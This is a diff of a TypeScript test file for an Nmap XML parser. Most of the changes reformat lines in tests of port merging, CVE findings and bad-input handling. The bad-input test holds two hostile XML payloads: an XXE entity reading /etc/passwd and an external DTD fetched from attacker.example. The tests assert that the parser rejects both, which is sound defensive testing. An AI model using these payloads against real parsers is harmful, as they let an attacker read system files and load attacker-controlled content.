@@ -5,7 +5,8 @@ import { ParseError } from '../parser.ts';
 import { nmapParser } from './nmap.ts';
 
 const fixture = (name: string) => readFileSync(new URL(`./fixtures/nmap/${name}`, import.meta.url));
-const parse = async (input: Buffer | string) => (await nmapParser.parse(Buffer.from(input), { scanType: 'Nmap Scan' })).findings;
+const parse = async (input: Buffer | string) =>
+  (await nmapParser.parse(Buffer.from(input), { scanType: 'Nmap Scan' })).findings;
 
 test('nmap: open ports merged on port number, vulners findings merged on id', async () => {
   const result = await nmapParser.parse(fixture('scan.xml'), { scanType: 'Nmap Scan' });
@@ -26,7 +27,10 @@ test('nmap: open ports merged on port number, vulners findings merged on id', as
     { host: 'web01.example.com', protocol: 'tcp', port: 22, url: 'tcp://web01.example.com:22' },
     { host: '192.0.2.11', protocol: 'tcp', port: 22, url: 'tcp://192.0.2.11:22' },
   ]);
-  assert.match(ssh.description ?? '', /\*\*FQDN:\*\* web01\.example\.com[\s\S]*\*\*Host OS:\*\* Linux 5\.0 - 5\.14\n\*\*Accuracy:\*\* 95%[\s\S]*\*\*Product:\*\* OpenSSH/);
+  assert.match(
+    ssh.description ?? '',
+    /\*\*FQDN:\*\* web01\.example\.com[\s\S]*\*\*Host OS:\*\* Linux 5\.0 - 5\.14\n\*\*Accuracy:\*\* 95%[\s\S]*\*\*Product:\*\* OpenSSH/,
+  );
   const terrapin = byTitle.get('CVE-2023-48795')!;
   assert.equal(terrapin.severity, 'Medium');
   assert.equal(terrapin.occurrences, 2);
@@ -47,7 +51,16 @@ test('nmap: no open ports and dedup config', async () => {
 test('nmap: bad input throws ParseError', async () => {
   await assert.rejects(() => parse(fixture('scan.xml').toString().slice(0, 1400)), ParseError);
   await assert.rejects(() => parse('<OWASPZAPReport/>'), /root element must be <nmaprun>/);
-  await assert.rejects(() => parse('<?xml version="1.0"?><!DOCTYPE nmaprun [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><nmaprun>&xxe;</nmaprun>'), /declares entities/);
-  await assert.rejects(() => parse('<!DOCTYPE nmaprun SYSTEM "http://attacker.example/x.dtd"><nmaprun/>'), /external DTD/);
+  await assert.rejects(
+    () =>
+      parse(
+        '<?xml version="1.0"?><!DOCTYPE nmaprun [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><nmaprun>&xxe;</nmaprun>',
+      ),
+    /declares entities/,
+  );
+  await assert.rejects(
+    () => parse('<!DOCTYPE nmaprun SYSTEM "http://attacker.example/x.dtd"><nmaprun/>'),
+    /external DTD/,
+  );
   await assert.rejects(() => parse(''), ParseError);
 });
